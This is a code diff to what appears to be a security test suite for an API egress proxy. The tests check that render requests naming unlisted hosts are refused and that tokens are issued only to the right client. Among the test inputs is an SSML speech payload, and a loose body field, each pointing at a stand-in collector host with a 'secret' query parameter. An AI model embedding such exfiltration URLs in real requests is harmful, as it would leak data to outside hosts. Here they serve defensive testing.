@@ -5,6 +5,7 @@ import time
 from collections import Counter
 from collections.abc import Callable
 from concurrent.futures import ThreadPoolExecutor
+from dataclasses import replace
 from typing import Any, Final
 
 from pictory_egress.api.hosts import API_HOST, ASSET_HOSTS, UPLOAD_HOST
@@ -22,8 +23,9 @@ _SLOW_SECONDS: Final = 2.0
 RESULT_HOST: Final = ASSET_HOSTS[-1]
 _RENDER: Final = {
     "videoName": "sandbox",
-    "scenes": [{"story": "A door that knows who knocks.", "createSceneOnNewLine": True}],
+    "scenes": [{"story": "A door that knows who knocks: www.example.org.", "createSceneOnNewLine": True}],
 }
+_SPEECH: Final = '<speak>Hello <audio src="https://collector.example.net/in?d=secret"/></speak>'
 _RENDER_SECONDS: Final = 30.0
 _TAKEOVER_SECONDS: Final = 30.0
 _REVOCATION_SECONDS: Final = 5.0
@@ -105,6 +107,24 @@ def calls(stage: Stage, report: Report) -> None:
             403,
             "body_host_not_allowed",
         ),
+        (
+            "render that names such a host in a field that nobody listed",
+            stage.client("video-pipeline"),
+            "POST",
+            "/v2/video/storyboard/render",
+            {**_RENDER, "anything": [{"else": "see //collector.example.net/in?d=secret"}]},
+            400,
+            "body_url_invalid",
+        ),
+        (
+            "speech that plays a sound from such a host",
+            stage.client("video-pipeline"),
+            "POST",
+            "/v2/video/storyboard/render",
+            {**_RENDER, "scenes": [{"story": _SPEECH, "isSSMLStory": True}]},
+            403,
+            "body_host_not_allowed",
+        ),
     )
     for what, client, method, path, body, status, code in refusals:
         answer = client.call(method, path, body=body)
@@ -118,6 +138,23 @@ def calls(stage: Stage, report: Report) -> None:
         "granted call, with the key added",
         f"{answer.status}, Pictory saw key {last.key_id}",
         held=answer.status == 200 and last.key_id == stage.issued[-1].id,
+    )
+
+
+def token(stage: Stage, report: Report) -> None:
+    """A program that asks for a token before it calls: it sends the client's name and credential, and nothing else."""
+    seen = len(stage.pictory.requests())
+    known = stage.client("video-pipeline")
+    asked = {"client_id": "video-pipeline", "client_secret": known.key}
+    answer = stage.anonymous().call("POST", "/v1/oauth2/token", body=asked)
+    call = replace(known, key=str(answer.json.get("access_token", ""))).call("GET", "/v1/quota")
+    wrong = stage.anonymous().call("POST", "/v1/oauth2/token", body={**asked, "client_id": "dashboard"})
+    reached = [request.operation for request in stage.pictory.requests()[seen:]]
+    report.row(
+        "program that asks for a token first",
+        f"{answer.status}, its call {call.status}; with another's credential {wrong.status} {wrong.code}",
+        held=(answer.status, call.status, wrong.code) == (200, 200, "token_client_invalid")
+        and reached == ["account.quota"],
     )
 
 
@@ -268,6 +305,16 @@ def operators(stage: Stage, report: Report) -> None:
     report.row("keys rollback, to a dead key", "refused, nothing moved" if held else answer[-200:], held=held)
 
 
+def hosts_named(stage: Stage, report: Report) -> None:
+    """Whatever host a body named that reached Pictory, as the stand-in's own eyes see it."""
+    seen = sorted({host for request in stage.pictory.requests() for host in request.hosts})
+    report.row(
+        "hosts named in bodies that reached Pictory",
+        ", ".join(seen) or "none",
+        held=seen == ["hooks.example.com", "www.example.org"],
+    )
+
+
 def key_nowhere(stage: Stage, report: Report) -> None:
     """The key's values, searched where they must not be."""
     stage.flush_logs()
@@ -309,8 +356,8 @@ def destroyed(stage: Stage, report: Report) -> None:
 
 
 LOOKS: Final = (
-    before_a_key, first_key, calls, render, tunnels, at_once, revocation, rotation_with_overlap, rotation_with_cutover,
-    operators, alarms, key_nowhere,
+    before_a_key, first_key, calls, token, render, tunnels, at_once, revocation, rotation_with_overlap,
+    rotation_with_cutover, operators, alarms, hosts_named, key_nowhere,
 )  # fmt: skip
 
 
